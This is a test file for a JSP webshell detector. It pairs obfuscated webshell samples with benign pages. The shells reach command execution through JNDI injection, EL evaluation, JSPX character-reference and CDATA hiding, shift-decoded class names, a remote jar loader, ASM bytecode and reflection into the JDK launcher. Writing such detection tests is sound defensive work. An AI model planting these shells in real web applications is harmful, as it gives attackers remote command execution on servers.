/**
 * JSP mechanisms that reach a command without naming the usual sink: JNDI lookups done by a
 * setter's object (a RowSet's data source name), expression-language text the page evaluates,
 * JSPX code hidden by numeric character references and CDATA sections, class names decoded by
 * the page's own shift loop or built around a computed character, classes loaded from a remote
 * URL, a private command field set by reflection, an embedded serialized gadget, bytecode
 * generated with ASM, and the JDK's internal launcher reached by reflection. Each shell is
 * written for these tests, with a benign page that uses the same API on fixed input.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

function verdictOf(path: string, text: string): string {
  return findingOf(path, text)?.verdict ?? 'clean';
}

function expectShell(path: string, text: string, reason: string): void {
  const f = findingOf(path, text);
  assert.equal(f?.verdict ?? 'clean', 'malicious', `${path}: ${JSON.stringify(reasons(f))}`);
  assert.ok(reasons(f).includes(reason), `${path}: expected "${reason}" in ${JSON.stringify(reasons(f))}`);
}

function expectClean(path: string, text: string): void {
  const f = findingOf(path, text);
  assert.equal(f?.verdict ?? 'clean', 'clean', `${path}: ${JSON.stringify(f?.evidence.map((e) => [e.weight, e.reason]))}`);
}

test('a RowSet given a request-chosen data source name and then connected is a JNDI injection', () => {
  expectShell(
    'rs.jsp',
    `<%@ page import="com.sun.rowset.JdbcRowSetImpl" %>
<% JdbcRowSetImpl rows = new JdbcRowSetImpl();
   String where = request.getParameter("src");
   rows.setDataSourceName(where);
   try { rows.setAutoCommit(false); } catch (Exception x) { out.print(x); } %>`,
    'request-derived variable reaches JNDI lookup',
  );
  // a Spring-style JNDI factory fed by a header, then initialised
  expectShell(
    'jf.jsp',
    `<% org.springframework.jndi.JndiObjectFactoryBean fb = new org.springframework.jndi.JndiObjectFactoryBean();
   fb.setJndiName(request.getHeader("X-Name")); fb.afterPropertiesSet(); out.print(fb.getObject()); %>`,
    'request-derived variable reaches JNDI lookup',
  );
});

test('a fixed JNDI data source name is an ordinary connection pool lookup', () => {
  expectClean(
    'ds.jsp',
    `<%@ page import="javax.naming.*,javax.sql.*,java.sql.*" %>
<% Context env = (Context) new InitialContext().lookup("java:comp/env");
   DataSource pool = (DataSource) env.lookup("jdbc/orders");
   Connection c = pool.getConnection();
   PreparedStatement ps = c.prepareStatement("select name from items where id = ?");
   ps.setInt(1, Integer.parseInt(request.getParameter("id")));
   ResultSet r = ps.executeQuery(); while (r.next()) out.print(r.getString(1)); c.close(); %>`,
  );
  expectClean(
    'rowset.jsp',
    `<% javax.sql.rowset.JdbcRowSet rs = javax.sql.rowset.RowSetProvider.newFactory().createJdbcRowSet();
   rs.setDataSourceName("java:comp/env/jdbc/shop"); rs.setCommand("select * from t where k = ?");
   rs.setString(1, request.getParameter("k")); rs.execute(); while (rs.next()) out.print(rs.getString(2)); %>`,
  );
});

test('EL evaluated by the page: request text built into the expression, or an expression reading param', () => {
  // the request's words joined into an EL string through a chained builder
  expectShell(
    'el1.jsp',
    `<%@ page import="javax.el.ELProcessor" %>
<% String in = request.getParameter("q"); StringBuilder b = new StringBuilder();
   for (String w : in.split(",")) { b.append('"').append(w).append('"').append(' '); }
   String words = b.toString().trim();
   ELProcessor p = new ELProcessor();
   Object r = p.eval("''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('" + words + "')");
   out.print(r); %>`,
    'request input reaches an evaluator .eval()',
  );
  expectShell(
    'el2.jsp',
    `<%@ page import="javax.el.*" %>
<% ExpressionFactory ef = ExpressionFactory.newInstance();
   ELContext cx = new StandardELContext(ef);
   String e = request.getParameter("e");
   ValueExpression v = ef.createValueExpression(cx, "#{" + e + "}", Object.class);
   out.print(v.getValue(cx)); %>`,
    'request-derived variable reaches expression language evaluation',
  );
  // a fixed expression that reaches a process and reads the request through the page context
  expectShell(
    'el3.jsp',
    `<%@ page import="javax.el.ELProcessor" %>
<% ELProcessor p = new ELProcessor(); p.defineBean("pageContext", pageContext);
   String expr = "''.getClass().forName('java.lang.ProcessBuilder').getConstructor(''.split('').getClass()).newInstance(pageContext.request.getParameter('c').split(' ')).start()";
   out.print(p.eval(expr)); %>`,
    'request input reaches reflection or process execution inside an EL expression the page evaluates',
  );
});

test('EL on the page\u2019s own beans with a fixed expression is clean', () => {
  expectClean(
    'cart.jsp',
    `<%@ page import="javax.el.ELProcessor,java.util.*" %>
<% ELProcessor p = new ELProcessor();
   Map<String, Integer> cart = new HashMap<>(); cart.put("apples", 3); cart.put("pears", 2);
   p.defineBean("cart", cart);
   StringBuilder sb = new StringBuilder(); sb.append("Items: ").append(p.eval("cart.values().stream().sum()"));
   out.print(sb); out.print(request.getParameter("note") == null ? "" : "noted"); %>`,
  );
});

test('JSPX: numeric character references and CDATA sections inside a scriptlet are read as the container reads them', () => {
  const enc = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
  expectShell(
    'a.jspx',
    `<?xml version="1.0"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>
  String c = request.getParameter("k");
  java.lang.Process p = ${enc('Runtime.getRuntime()')}.&#101;xec(c);
  out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next());
</jsp:scriptlet>
</jsp:root>`,
    'request-derived variable reaches Runtime.exec',
  );
  expectShell(
    'b.jspx',
    `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>
  java.lang.Process p = Ru<![CDATA[ntime.getRu]]>ntime().ex<![CDATA[ec(request.getPar]]>ameter("k"));
  out.print(p.waitFor());
</jsp:scriptlet>
</jsp:root>`,
    'request input reaches Runtime.exec',
  );
});

test('JSPX with character references in its HTML text only stays clean', () => {
  expectClean(
    'about.jspx',
    `<?xml version="1.0"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<p>&#169; 2024 &#x41;cme &#8212; Runtime &#38; exec notes</p>
<p><![CDATA[ if (a < b) exec(x) ]]></p>
<jsp:scriptlet>String who = request.getParameter("who"); </jsp:scriptlet>
<p>Hello <jsp:expression>org.apache.commons.text.StringEscapeUtils.escapeHtml4(who)</jsp:expression></p>
</jsp:root>`,
  );
});

test('class names decoded by the page\u2019s own shift loop, or built around a computed character', () => {
  // each character stored 3 below its value; the page adds 3 back
  const down = (s: string) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join('');
  expectShell(
    'shift.jsp',
    `<%! String un(String s) { StringBuilder o = new StringBuilder(); for (int i = 0; i < s.length(); i++) o.append((char) (s.charAt(i) + 3)); return o.toString(); } %>
<% String[] a = request.getParameter("a").split(" ");
   Class k = Class.forName(un("${down('java.lang.Runtime')}"));
   Object r = k.getMethod(un("${down('getRuntime')}")).invoke(null);
   Object p = k.getMethod(un("${down('exec')}"), String[].class).invoke(r, (Object) a);
   out.print(p); %>`,
    'request input reaches process execution through reflection',
  );
  expectShell(
    'guess.jsp',
    `<% String c = request.getParameter("c"); Class t = null;
   for (int n = 70; t == null && n < 90; n++) { try { t = Class.forName("java.lang." + String.valueOf((char) n) + "rocessBuilder"); } catch (Exception e) {} }
   java.lang.reflect.Constructor k = t.getConstructors()[0];
   Object pb = k.newInstance((Object) new String[] { "sh", "-c", c });
   out.print(pb); %>`,
    'request input reaches process execution through reflection',
  );
});

test('a servlet calling its own action methods by fixed names is clean', () => {
  expectClean(
    'Actions.java',
    `import java.lang.reflect.Method;
import javax.servlet.http.*;
public class Actions extends HttpServlet {
  protected void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception {
    Method m = Actions.class.getDeclaredMethod("listItems", HttpServletRequest.class);
    if ("one".equals(req.getParameter("a"))) m = Actions.class.getDeclaredMethod("showItems", HttpServletRequest.class);
    Object out = m.invoke(this, req);
    res.getWriter().print(out);
  }
  private String listItems(HttpServletRequest r) { return "all"; }
  private String showItems(HttpServletRequest r) { return "one"; }
}`,
  );
});

test('a class from a remote jar built with request input is a shell; a loader over the webapp lib folder is not', () => {
  expectShell(
    'remote.jsp',
    `<%@ page import="java.net.*" %>
<% URL[] at = new URL[] { new URL("http://203.0.113.9/x.jar") };
   URLClassLoader l = new URLClassLoader(at);
   Object o = l.loadClass("p.Q").getConstructor(String.class).newInstance(request.getParameter("v"));
   out.print(o); %>`,
    'request input reaches a class loaded from a remote URL',
  );
  expectClean(
    'plugins.jsp',
    `<%@ page import="java.net.*,java.io.File" %>
<% File lib = new File(application.getRealPath("/WEB-INF/plugins"));
   URLClassLoader l = new URLClassLoader(new URL[] { new File(lib, "report.jar").toURI().toURL() }, getClass().getClassLoader());
   Object r = l.loadClass("com.acme.Report").getConstructor().newInstance();
   out.print(r.toString()); out.print(request.getParameter("month") != null ? "ok" : ""); %>`,
  );
});

test('a private command field set by reflection to the request value and then run is a shell', () => {
  expectShell(
    'field.jsp',
    `<% Class c = Class.forName("some.internal.Launcher");
   java.lang.reflect.Constructor k = c.getDeclaredConstructor(); k.setAccessible(true);
   Thread t = (Thread) k.newInstance();
   java.lang.reflect.Field prog = c.getDeclaredField("programPath");
   prog.setAccessible(true);
   prog.set(t, request.getParameter("p"));
   t.start(); %>`,
    "request input set by reflection into an object's private command field",
  );
  // a test helper setting a private display-name field and starting a thread: no program named
  expectClean(
    'label.jsp',
    `<% Class c = Class.forName("com.acme.Worker");
   Thread t = (Thread) c.getDeclaredConstructor().newInstance();
   java.lang.reflect.Field f = c.getDeclaredField("label");
   f.setAccessible(true); f.set(t, request.getParameter("label")); t.start(); %>`,
  );
});

test('an embedded serialized gadget read by the page, and class bytecode generated with ASM that runs commands', () => {
  const stream = Buffer.concat([
    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]),
    Buffer.from('\u0000\u003acom.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', 'latin1'),
    Buffer.from('_bytecodes', 'latin1'),
    Buffer.alloc(240, 0x41),
  ]).toString('base64');
  assert.ok(stream.startsWith('rO0AB'));
  expectShell(
    'gadget.jsp',
    `<%@ page import="java.io.*,java.util.Base64" %>
<% Object o = new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode("${stream}"))).readObject(); out.print(o); %>`,
    'deserializes an object stream embedded in the file that carries a gadget (TemplatesImpl)',
  );
  expectShell(
    'asm.jsp',
    `<%! static class L extends ClassLoader { Class d(byte[] b) { return defineClass(null, b, 0, b.length); } } %>
<% org.objectweb.asm.ClassWriter cw = new org.objectweb.asm.ClassWriter(0);
   org.objectweb.asm.MethodVisitor mv = cw.visitMethod(1, "<init>", "(Ljava/lang/String;)V", null, null);
   mv.visitMethodInsn(184, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
   mv.visitVarInsn(25, 1);
   mv.visitMethodInsn(182, "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", false);
   Class k = new L().d(cw.toByteArray());
   out.print(k.getConstructor(String.class).newInstance(request.getParameter("c"))); %>`,
    'generates and defines class bytecode that runs commands (Runtime through ASM)',
  );
  // ASM building a data class (getters), and a page reading a serialized cache of its own: clean
  expectClean(
    'bean.jsp',
    `<% org.objectweb.asm.ClassWriter cw = new org.objectweb.asm.ClassWriter(0);
   org.objectweb.asm.MethodVisitor mv = cw.visitMethod(1, "getName", "()Ljava/lang/String;", null, null);
   mv.visitMethodInsn(182, "java/lang/StringBuilder", "toString", "()Ljava/lang/String;", false);
   byte[] b = cw.toByteArray(); out.print(b.length);
   java.io.ObjectInputStream in = new java.io.ObjectInputStream(new java.io.FileInputStream(application.getRealPath("/WEB-INF/cache.ser")));
   out.print(in.readObject()); %>`,
  );
});

test('the JDK internal launcher reached by reflection in a page reading the request', () => {
  expectShell(
    'impl.jsp',
    `<% String c = request.getParameter("c");
   Class k = Class.forName("java.lang.ProcessImpl");
   java.lang.reflect.Method m = k.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
   m.setAccessible(true);
   Holder.args = new Object[] { c.split(" "), null, null, null, false };
   Object p = Holder.call(m); out.print(p); %>`,
    "reaches the JDK's internal process launcher by reflection in a page that reads request input",
  );
  assert.equal(verdictOf('plain.jsp', '<% out.print(request.getParameter("x") == null ? 1 : 2); %>'), 'clean');
  // a status page reading a fixed job's pid from UNIXProcess's private field: no launcher method
  assert.ok(
    !reasons(
      findingOf(
        'pid.jsp',
        `<% Process p = new ProcessBuilder("/usr/bin/uptime").start();
   Class k = Class.forName("java.lang.UNIXProcess");
   java.lang.reflect.Field f = k.getDeclaredField("pid"); f.setAccessible(true);
   out.print(f.getInt(p)); out.print(request.getParameter("v") == null ? "" : "v"); %>`,
      ),
    ).includes("reaches the JDK's internal process launcher by reflection in a page that reads request input"),
  );
});
